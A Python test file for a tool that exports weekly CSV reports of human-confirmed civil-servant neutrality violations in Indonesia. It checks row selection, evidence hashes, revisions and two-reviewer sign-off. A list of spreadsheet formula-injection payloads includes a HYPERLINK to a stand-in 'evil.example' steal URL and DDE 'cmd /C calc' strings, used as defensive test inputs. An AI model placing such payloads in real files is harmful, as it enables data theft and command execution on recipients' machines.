"""The weekly export: what goes out, Excel safety, reproducibility, revisions, four-eyes."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from pantau.cli import main
from pantau.config import get_settings
from pantau.errors import AuditError, ConfigError, EvidenceError, ReviewError
from pantau.evidence import read_evidence
from pantau.export import (
    FIELDS, export_week, load_recipient, parse_recipient, parse_week, safe_cell,
)
from pantau.review import decide
from pantau.store import Store
from review_helpers import add_telegram_post, wib, world_store  # noqa: F401  (fixture)

WEEK = "2024-W47"   # Monday 18 Nov 2024 00:00 WIB – Sunday 24 Nov 24:00 WIB


def _read(result, recipient: str = "bkn") -> pd.DataFrame:
    layout = load_recipient(recipient)
    return pd.read_csv(result.csv_path, sep=layout.delimiter, encoding="utf-8-sig", dtype=str,
                       keep_default_na=False)


@pytest.fixture
def decided(world_store):
    """Decisions around week 47: some in it, some outside, some not confirmations."""
    store, world = world_store
    c = world.cases
    decide(store, c["ajakan"], "confirmed", "Sari", "ajakan memilih", now=wib(2024, 11, 18, 0, 0))
    decide(store, c["foto"], "confirmed", "Sari", now=wib(2024, 11, 19, 9))
    decide(store, c["foto"], "dismissed", "Rudi", "bukan pose kampanye", now=wib(2024, 11, 19, 10))
    decide(store, c["like"], "needs_more_info", "Rudi", now=wib(2024, 11, 20, 9))
    # an act of September confirmed late, on Sunday 23:59 WIB: belongs to week 47
    decide(store, c["lama"], "confirmed", "Rudi", now=wib(2024, 11, 24, 23, 59))
    # confirmed on Monday 00:00 WIB of week 48 (= Sunday 17:00 UTC): not in week 47
    decide(store, c["boost"], "confirmed", "Sari", now=wib(2024, 11, 25, 0, 0))
    return store, world


def test_export_contains_exactly_the_cases_confirmed_that_week(decided):
    store, world = decided
    result = export_week(store, WEEK, "bkn")
    df = _read(result)
    assert list(df.columns) == [c.header for c in load_recipient("bkn").columns]
    assert list(df["ID Kasus"]) == [world.cases["ajakan"], world.cases["lama"]]
    assert result.row_count == 2 and result.status == "new"
    assert result.csv_path == Path(get_settings().exports_dir, "bkn", "pantau-bkn-2024-W47.csv")
    late = df.set_index("ID Kasus").loc[world.cases["lama"]]
    assert late["Waktu Kejadian (WIB)"] == "10-09-2024 19:40"       # the act: September
    assert late["Waktu Keputusan (WIB)"] == "24-11-2024 23:59"      # the decision: week 47
    assert late["Kode Pelanggaran"] == "KE-02" and late["Tahapan"] == "bakal calon"
    next_week = _read(export_week(store, "2024-W48", "bkn"))
    assert list(next_week["ID Kasus"]) == [world.cases["boost"]]


def test_every_row_traces_to_a_confirmation_and_verifiable_evidence(decided):
    store, _ = decided
    df = _read(export_week(store, WEEK, "bkn"))
    home = store.path.parent
    for _, row in df.iterrows():
        verdicts = store.rows(
            "SELECT verdict, reviewer FROM decisions WHERE case_id = ? ORDER BY seq",
            [row["ID Kasus"]])
        assert verdicts[-1][0] == "confirmed" and verdicts[-1][1] == row["Pemeriksa"]
        ev = store.rows("SELECT sha256, path FROM evidence WHERE sha256 = ?",
                        [row["SHA-256 Bukti"]])
        body = read_evidence(home, {"sha256": ev[0][0], "path": ev[0][1]})
        assert hashlib.sha256(body).hexdigest() == row["SHA-256 Bukti"]
        nip = store.rows("SELECT nip FROM asn WHERE nama = ?", [row["Nama"]])[0][0]
        assert row["NIP"] == nip


def test_only_human_confirmed_cases_go_out(decided):
    store, world = decided
    ids = set()
    for week in ("2024-W46", "2024-W47", "2024-W48", "2024-W49"):
        ids |= set(export_week(store, week, "bawaslu").case_ids)
    assert world.cases["foto"] not in ids      # confirmed, then dismissed
    assert world.cases["like"] not in ids      # needs more info
    assert world.cases["netral"] not in ids    # never reviewed
    assert ids == {world.cases[k] for k in ("ajakan", "lama", "boost")}


def test_file_is_excel_safe_utf8_with_bom_crlf_and_quoted(decided):
    store, _ = decided
    data = export_week(store, WEEK, "bkn").csv_path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    lines = text.split("\r\n")
    assert lines[-1] == "" and all("\n" not in line for line in lines)
    assert lines[0].startswith('"ID Kasus";"NIP";')
    assert "Salam satu jari ☝️" in text  # UTF-8 kept intact


HOSTILE = [
    '=HYPERLINK("https://evil.example/steal?x="&A1,"Klik") dukung RIDO',
    "+62 812 dukung 01",
    "-2+3 dukung RIDO",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "   =1+1 spasi di depan",
    '"=1+1" dalam kutip',
    "'=1+1 dengan apostrof",
    "＝HYPERLINK(\"https://evil.example\") full-width",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_neutralises_formula_starts(text):
    cell = safe_cell(text)
    assert cell.startswith("'")
    assert "\t" not in cell and "\r" not in cell and "\n" not in cell


def test_safe_cell_strips_controls_and_shows_bidi_overrides():
    assert safe_cell("ASN\x00 \x07netral\x1b") == "ASN netral"
    assert safe_cell("abc\u202egpj.exe") == "abc[U+202E]gpj.exe"
    assert safe_cell("\u2066x\u2069") == "[U+2066]x[U+2069]"
    assert safe_cell("baris satu\r\nbaris dua") == "baris satu baris dua"
    assert safe_cell("Salam 2 jari") == "Salam 2 jari" and safe_cell(None) == ""


def test_hostile_posts_come_out_inert_in_the_file(world_store):
    store, world = world_store
    ids = []
    for i, text in enumerate(HOSTILE):
        cid = add_telegram_post(store, world, f"h{i}", text, handle="dewi_analis",
                                post_id=100 + i, at=wib(2024, 11, 19, 8, i))
        decide(store, cid, "confirmed", "Sari", now=wib(2024, 11, 20, 9, i))
        ids.append(cid)
    result = export_week(store, WEEK, "bawaslu")
    with result.csv_path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=","))
    assert [r["ID Kasus"] for r in rows] == ids
    for row in rows:
        for value in row.values():
            stripped = value.lstrip(" \"'")
            assert not value[:1] in "=+-@\t\r" or value == ""
            assert value.startswith("'") or stripped[:1] not in "=+-@＝"
        assert row["Uraian Kejadian"].startswith("'")


def test_long_text_is_cut_to_an_excerpt(world_store):
    store, world = world_store
    cid = add_telegram_post(store, world, "long", "dukung RIDO " * 200, handle="dewi_analis",
                            post_id=300, at=wib(2024, 11, 19, 8))
    decide(store, cid, "confirmed", "Sari", now=wib(2024, 11, 20, 9))
    df = _read(export_week(store, WEEK, "bkn"))
    cell = df["Uraian Singkat"].iloc[0]
    assert len(cell) <= load_recipient("bkn").excerpt_chars and cell.endswith("…")


def test_second_run_gives_the_same_bytes(decided):
    store, _ = decided
    first = export_week(store, WEEK, "bkn")
    csv_bytes, manifest_bytes = first.csv_path.read_bytes(), first.manifest_path.read_bytes()
    again = export_week(store, WEEK, "bkn")
    assert again.status == "unchanged" and again.export_id == first.export_id
    assert again.csv_path.read_bytes() == csv_bytes
    assert again.manifest_path.read_bytes() == manifest_bytes
    assert store.count("exports") == 1
    # deleted by accident: the next run restores the identical files (the manifest from the
    # store's record of it and of the file's lines)
    first.csv_path.unlink()
    first.manifest_path.unlink()
    export_week(store, WEEK, "bkn")
    assert first.csv_path.read_bytes() == csv_bytes
    assert first.manifest_path.read_bytes() == manifest_bytes
    # decisions outside the week do not touch it
    decide(store, decided[1].cases["netral"], "dismissed", "Sari", now=wib(2024, 12, 2, 9))
    assert export_week(store, WEEK, "bkn").status == "unchanged"


def test_manifest_describes_the_file_and_is_recorded(decided):
    store, world = decided
    result = export_week(store, WEEK, "bkn", created_by="analis")
    manifest = json.loads(result.manifest_path.read_text("utf-8"))
    assert manifest["week"] == WEEK and manifest["recipient"] == "bkn"
    assert manifest["row_count"] == 2
    assert manifest["csv_sha256"] == hashlib.sha256(result.csv_path.read_bytes()).hexdigest()
    assert manifest["case_ids"] == [world.cases["ajakan"], world.cases["lama"]]
    assert manifest["model_versions"] == ["2024.11.2"]
    assert manifest["filters"]["confirmed_from"] == "2024-11-18T00:00:00+07:00"
    assert manifest["filters"]["confirmed_until"] == "2024-11-25T00:00:00+07:00"
    assert manifest["pantau_version"] and manifest["created_by"] == "analis"
    assert manifest["audit_head"]["hash"] == store.rows(
        "SELECT hash FROM decisions ORDER BY seq DESC LIMIT 1")[0][0]
    recorded = store.rows(
        "SELECT e.recipient, e.week, e.sha256, r.case_id FROM exports e "
        "JOIN export_rows r USING (export_id) ORDER BY r.case_id")
    assert {r[3] for r in recorded} == set(manifest["case_ids"])
    assert all(r[:3] == ("bkn", WEEK, manifest["csv_sha256"]) for r in recorded)


def test_each_line_checks_against_the_manifest_on_its_own(decided):
    """row_sha256 is the SHA-256 of the case's line as the file holds it (without the CRLF):
    a recipient can check any line with standard tools; the store records line and digest."""
    store, _ = decided
    result = export_week(store, WEEK, "bkn")
    manifest = json.loads(result.manifest_path.read_text("utf-8"))
    lines = result.csv_path.read_bytes().split(b"\r\n")[1:-1]
    assert len(lines) == len(manifest["case_ids"]) == 2
    for case_id, line in zip(manifest["case_ids"], lines):
        assert manifest["row_sha256"][case_id] == hashlib.sha256(line).hexdigest()
        assert line.split(b";")[0] == f'"{case_id}"'.encode()
    recorded = store.rows("SELECT case_id, line, row_sha256 FROM export_rows ORDER BY line")
    assert recorded == [(c, i + 2, manifest["row_sha256"][c])
                        for i, c in enumerate(manifest["case_ids"])]
    stored = json.loads(store.rows("SELECT manifest FROM exports")[0][0])
    assert "row_sha256" not in stored and stored["csv_sha256"] == manifest["csv_sha256"]


def test_a_changed_row_is_listed_as_changed(decided):
    store, world = decided
    first = export_week(store, WEEK, "bkn")
    store.con.execute("UPDATE asn SET jabatan = 'Kepala Seksi Baru'")
    second = export_week(store, WEEK, "bkn")
    assert second.status == "revised" and second.added == second.removed == []
    assert second.changed == first.case_ids
    assert json.loads(second.manifest_path.read_text("utf-8"))["changes"]["changed"] == \
        first.case_ids


def test_a_revision_of_a_format_1_export_says_rows_cannot_be_compared(decided):
    """An export recorded before manifest format 2 (whole manifest in the store, digests of
    the cells): its revision still lists added and removed cases, says changed is unknown,
    and a deleted format-1 manifest is restored whole."""
    store, world = decided
    first = export_week(store, WEEK, "bkn")
    old = json.loads(first.manifest_path.read_text("utf-8"))
    old["format"] = "pantau-export/1"
    old["row_sha256"] = {c: "0" * 64 for c in old["case_ids"]}
    old_text = json.dumps(old, ensure_ascii=False, indent=2)
    store.con.execute("UPDATE exports SET manifest = ?", [old_text])
    store.con.execute("UPDATE export_rows SET line = NULL, row_sha256 = NULL")
    first.manifest_path.unlink()
    assert export_week(store, WEEK, "bkn").status == "unchanged"
    assert first.manifest_path.read_text("utf-8") == old_text
    decide(store, world.cases["ajakan"], "dismissed", "Rudi", now=wib(2024, 11, 22, 9))
    second = export_week(store, WEEK, "bkn")
    changes = json.loads(second.manifest_path.read_text("utf-8"))["changes"]
    assert changes["removed"] == [world.cases["ajakan"]] and changes["added"] == []
    assert changes["changed"] is None and "pantau-export/1" in changes["changed_unknown"]


def test_changed_decision_in_the_week_gives_a_new_revision(decided):
    store, world = decided
    first = export_week(store, WEEK, "bkn")
    decide(store, world.cases["ajakan"], "dismissed", "Rudi", "akun bukan milik ASN",
           now=wib(2024, 11, 22, 9))
    decide(store, world.cases["like"], "confirmed", "Rudi", now=wib(2024, 11, 22, 10))
    second = export_week(store, WEEK, "bkn")
    assert second.status == "revised" and second.revision == 2
    assert second.csv_path.name == "pantau-bkn-2024-W47-r2.csv"
    assert first.csv_path.is_file()          # what was sent before stays on disk
    assert second.added == [world.cases["like"]]
    assert second.removed == [world.cases["ajakan"]]
    changes = json.loads(second.manifest_path.read_text("utf-8"))["changes"]
    assert changes["previous_file"] == first.csv_path.name
    assert changes["added"] == [world.cases["like"]]
    assert changes["removed"] == [world.cases["ajakan"]]
    assert list(_read(second)["ID Kasus"]) == [world.cases["lama"], world.cases["like"]]
    assert export_week(store, WEEK, "bkn").status == "unchanged"


def test_four_eyes_needs_two_different_reviewers(world_store, monkeypatch):
    monkeypatch.setenv("PANTAU_REVIEW__FOUR_EYES", "true")
    get_settings.cache_clear()
    store, world = world_store
    cid = world.cases["ajakan"]
    decide(store, cid, "confirmed", "Sari", now=wib(2024, 11, 22, 9))
    decide(store, cid, "confirmed", "sari", now=wib(2024, 11, 23, 9))  # same person again
    assert export_week(store, WEEK, "bkn").row_count == 0
    decide(store, cid, "confirmed", "Rudi", now=wib(2024, 11, 26, 9))  # second pair of eyes
    assert export_week(store, WEEK, "bkn").row_count == 0
    result = export_week(store, "2024-W48", "bkn")
    df = _read(result)
    assert list(df["ID Kasus"]) == [cid]
    assert df["Pemeriksa"].iloc[0] == "Sari; Rudi"
    assert df["Waktu Keputusan (WIB)"].iloc[0] == "26-11-2024 09:00"
    assert json.loads(result.manifest_path.read_text())["filters"]["four_eyes"] is True


def test_export_refuses_evidence_that_does_not_verify(decided):
    store, world = decided
    rel = store.rows("SELECT path FROM evidence WHERE sha256 = ?", [world.evidence["ajakan"]])[0][0]
    Path(store.path.parent, rel).write_bytes(gzip.compress(b"<html>diganti</html>"))
    with pytest.raises(EvidenceError, match=world.cases["ajakan"]):
        export_week(store, WEEK, "bkn")


def test_export_refuses_a_broken_audit_chain(decided):
    store, _ = decided
    store.con.execute("UPDATE decisions SET verdict = 'confirmed' WHERE verdict = 'dismissed'")
    with pytest.raises(AuditError):
        export_week(store, WEEK, "bkn")


def test_parse_week():
    w = parse_week("2024-W47")
    assert w.label == "2024-W47"
    assert w.start.isoformat() == "2024-11-17T17:00:00+00:00"
    assert w.end.isoformat() == "2024-11-24T17:00:00+00:00"
    assert parse_week("2024w1").label == "2024-W01"
    # Monday 25 Nov 2024 06:00 WIB is Sunday 23:00 UTC: 'last' is still week 47
    assert parse_week("last", now=wib(2024, 11, 25, 6)).label == "2024-W47"
    assert parse_week("2020-W53").label == "2020-W53"
    for bad in ("2024-W54", "2023-W53", "47", "next"):
        with pytest.raises(ReviewError):
            parse_week(bad)


def test_recipient_layouts_shipped_and_configurable(tmp_path, monkeypatch):
    for name in ("bkn", "kasn", "bawaslu"):
        layout = load_recipient(name)
        assert layout.name == name and all(c.field in FIELDS for c in layout.columns)
    custom = tmp_path / "ppk.toml"
    custom.write_text(
        '[recipient]\nname = "ppk"\ntitle = "PPK Instansi"\ndelimiter = "\\t"\n'
        'date_format = "%d %b %Y"\n\n[[columns]]\nfield = "nip"\nheader = "NIP"\n', "utf-8")
    monkeypatch.setenv("PANTAU_EXPORT__RECIPIENTS_DIR", str(tmp_path))
    get_settings.cache_clear()
    assert load_recipient("ppk").delimiter == "\t"
    with pytest.raises(ReviewError, match="unknown recipient 'kpu'.*bawaslu"):
        load_recipient("kpu")


@pytest.mark.parametrize(
    "text, message",
    [
        ('[recipient]\nname = "x"\ncolour = "red"\n[[columns]]\nfield = "nip"\nheader = "NIP"\n',
         r"line 3: key 'recipient.colour': unknown key"),
        ('[recipient]\nname = "x"\n[[columns]]\nfield = "ktp"\nheader = "KTP"\n',
         "unknown field 'ktp'"),
        ('[recipient]\nname = "x"\ndelimiter = "::"\n[[columns]]\nfield = "nip"\nheader = "N"\n',
         "line 3: key 'recipient.delimiter'"),
        ('[recipient]\nname = "x"\n', "at least one"),
        ('[recipient\n', "not valid TOML"),
    ],
)
def test_bad_layouts_name_file_line_and_key(text, message):
    with pytest.raises(ConfigError, match=message) as info:
        parse_recipient(text, "layouts/x.toml")
    assert str(info.value).startswith("layouts/x.toml")


def test_cli_export_writes_every_configured_recipient(decided, tmp_path, monkeypatch, capsys):
    store, world = decided
    store.close()
    monkeypatch.setenv("PANTAU_EXPORT__RECIPIENTS", '["bkn", "kasn"]')
    get_settings.cache_clear()
    out = tmp_path / "out"
    assert main(["export", "--week", WEEK, "-o", str(out)]) == 0
    assert sorted(p.name for p in out.iterdir()) == [
        "pantau-bkn-2024-W47.csv", "pantau-bkn-2024-W47.manifest.json",
        "pantau-kasn-2024-W47.csv", "pantau-kasn-2024-W47.manifest.json"]
    assert "2 case(s), written" in capsys.readouterr().out
    assert main(["export", "--week", WEEK, "--recipient", "bawaslu"]) == 0
    df = pd.read_csv(io.BytesIO(
        (get_settings().exports_dir / "bawaslu" / "pantau-bawaslu-2024-W47.csv").read_bytes()),
        encoding="utf-8-sig", dtype=str)
    assert set(df["ID Kasus"]) == {world.cases["ajakan"], world.cases["lama"]}
    assert main(["export", "--week", "2024-W99"]) == 2
    assert "no ISO week 99" in capsys.readouterr().err
    assert main(["export", "--fields"]) == 0
    assert "evidence_sha256" in capsys.readouterr().out
